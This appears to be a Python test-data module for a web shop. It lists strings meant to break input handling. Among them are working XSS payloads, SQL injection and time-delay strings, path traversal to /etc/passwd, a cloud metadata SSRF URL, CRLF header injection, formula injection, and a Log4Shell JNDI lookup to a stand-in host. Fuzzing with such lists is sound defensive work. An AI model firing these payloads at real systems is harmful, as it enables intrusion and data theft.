"""Text that has broken shops before: markup, quotes, control characters, odd scripts, numbers out of range."""

from __future__ import annotations

# What must never stand unescaped on a page; each contains a word that finds it again.
MARKUP = [
    "<script>alert('yak-1')</script>",
    "\"><img src=x onerror=alert('yak-2')>",
    "'><svg onload=alert(`yak-3`)>",
    "javascript:alert('yak-4')",
    "</textarea><script>alert('yak-5')</script>",
    "<a href=\"javascript:alert('yak-6')\">x</a>",
    "{{ 7*7 }}${7*7}<%= 7*7 %>yak-7",
    "]]><!--yak-8--><script>",
    "\" onfocus=alert('yak-9') autofocus x=\"",
    "<iframe src=//evil.example/yak-10>",
]
ODD = [
    "", " ", "\t", "\u00a0", "0", "-1", "1e309", "NaN", "9" * 30, "0x7f", "1/0", "True", "null",
    "undefined", "None", "' OR '1'='1", "'; DROP TABLE \"order\"; --", "1; SELECT pg_sleep(9)", "%",
    "_", "\\", "%00", "%0d%0aSet-Cookie: x=1", "../../../etc/passwd", "file:///etc/passwd",
    "http://169.254.169.254/", "=1+1", "+1", "@SUM(1)", "-2+3|cmd", "ﷺ" * 50, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞a̴l̙̱",
    "\u202e\u2066evil\u2069", "\ufeff", "\ufffe", "\ud7ff", "\U0010ffff", "👩‍👩‍👧‍👦" * 20, "🇨🇳",
    "བོད་ཡིག", "田中さん", "ⅷ", "１２３", "ß", "İ", "ǆ", "\u0001\u0002\u001b[31m",
    "\r\nBcc: a@b.example", "\x7f", "\x85", "a" * 70_000, "é", "e\u0301", "2026-02-30", "2026-13-01",
    "0000-00-00", "99999-01-01", "24:60", "-0", "1,5", "１２．５", "CON", "nul.txt",
    "${jndi:ldap://evil.example/a}", "<!DOCTYPE x [<!ENTITY a 'b'>]>", "[object Object]",
    "NUL\u0000byte",
]  # fmt: skip
NAUGHTY = MARKUP + ODD
